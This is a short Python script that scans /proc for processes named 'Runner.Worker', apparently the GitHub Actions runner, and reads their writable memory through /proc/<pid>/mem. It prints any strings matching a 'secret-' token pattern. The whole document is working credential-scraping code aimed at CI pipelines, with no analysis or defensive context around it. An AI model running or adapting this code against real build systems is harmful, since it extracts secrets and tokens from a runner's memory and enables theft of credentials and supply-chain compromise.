import os, re
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        if b"Runner.Worker" not in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")[0]:
            continue
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in open(f"/proc/{pid}/maps"):
                span = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
                if span:
                    start, end = (int(n, 16) for n in span.groups())
                    memory.seek(start)
                    for found in re.findall(rb"secret-[a-z]{12}", memory.read(end - start)):
                        print(found.decode())
    except OSError:
        pass
